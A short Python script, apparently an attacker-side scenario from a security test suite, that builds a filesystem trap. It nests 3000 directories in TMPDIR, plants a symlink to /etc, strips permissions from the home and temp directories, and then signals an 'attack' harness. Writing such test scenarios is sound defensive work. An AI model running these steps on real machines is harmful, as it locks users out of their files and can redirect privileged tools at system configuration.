import os

from attack import tell

os.chdir(os.environ["TMPDIR"])
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(os.environ["HOME"])
os.makedirs("closed/below")
open("closed/below/file", "w").close()
os.symlink("/etc", "link")
os.chmod("closed/below", 0)
os.chmod("closed", 0)
os.chmod(os.environ["HOME"], 0)
os.chmod(os.environ["TMPDIR"], 0)
tell([])
